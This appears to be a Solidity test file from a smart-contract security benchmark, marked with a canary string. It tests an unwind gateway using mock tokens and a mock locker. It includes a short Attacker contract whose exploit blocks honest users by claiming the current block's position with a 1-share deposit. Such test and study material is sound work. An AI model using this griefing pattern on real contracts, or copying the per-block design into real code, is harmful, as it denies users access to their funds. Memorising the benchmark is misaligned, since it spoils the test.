// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./UnwindGateway.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-d8c4d3d5-6b9f-4d0a-a9f1-90a439954a0a

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Share is ERC20 {
    constructor() ERC20("Share", "SHR") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Locker is ILocker {
    IERC20 public share;
    IERC20 public coin;
    mapping(bytes32 => uint256) private positions;

    constructor(IERC20 s, IERC20 c) {
        share = s;
        coin = c;
    }

    function open(uint256 shares) external returns (bytes32 position) {
        position = keccak256(abi.encode(msg.sender, block.number));
        require(positions[position] == 0, "mixed up");
        positions[position] = shares;
        share.transferFrom(msg.sender, address(this), shares);
    }

    function close(bytes32 position) external {
        uint256 shares = positions[position];
        positions[position] = 0;
        coin.transfer(msg.sender, shares);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_763_000_000;

    Share private shares;
    Coin private coins;
    UnwindGateway private gateway;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.roll(1_000);
        shares = new Share();
        coins = new Coin();
        Locker locker = new Locker(shares, coins);
        coins.transfer(address(locker), 5_000e18);
        gateway = new UnwindGateway(locker);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            shares.transfer(all[i], 500e18);
            vm.prank(all[i]);
            shares.approve(address(gateway), type(uint256).max);
        }
        mallory = new Attacker(gateway, shares);
        shares.transfer(address(mallory), 1);
    }

    function test_Regular() public {
        vm.prank(ANA);
        uint256 first = gateway.start(300e18);
        vm.roll(1_001);
        vm.prank(BEN);
        uint256 second = gateway.start(100e18);
        vm.warp(START + 10 days);
        require(gateway.finish(second) == 100e18 && gateway.finish(first) == 300e18, "paid");
        require(coins.balanceOf(ANA) == 300e18 && coins.balanceOf(BEN) == 100e18, "to each");
        require(gateway.lastBlock() == 1_001 && shares.balanceOf(ANA) == 200e18, "unwound");
    }

    function test_Refuses() public {
        vm.expectRevert(bytes("no locker"));
        new UnwindGateway(ILocker(address(0)));
        vm.prank(ANA);
        vm.expectRevert(TooSmall.selector);
        gateway.start(0);
        vm.prank(ANA);
        uint256 id = gateway.start(300e18);
        vm.prank(BEN);
        vm.expectRevert(BlockTaken.selector);
        gateway.start(300e18);
        vm.expectRevert(abi.encodeWithSelector(NotOver.selector, START + 10 days));
        gateway.finish(id);
        vm.warp(START + 10 days);
        gateway.finish(id);
        vm.expectRevert(Paid.selector);
        gateway.finish(id);
    }

    function unwinding() public {
        vm.prank(ANA);
        gateway.start(300e18);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        vm.prank(ANA);
        vm.expectRevert(BlockTaken.selector);
        gateway.start(300e18);
    }

    function target() public view returns (address) {
        return address(gateway);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    UnwindGateway private gateway;
    Share private shares;

    constructor(UnwindGateway g, Share s) {
        gateway = g;
        shares = s;
    }

    function run() external {
        shares.approve(address(gateway), 1);
        gateway.start(1);
    }
}
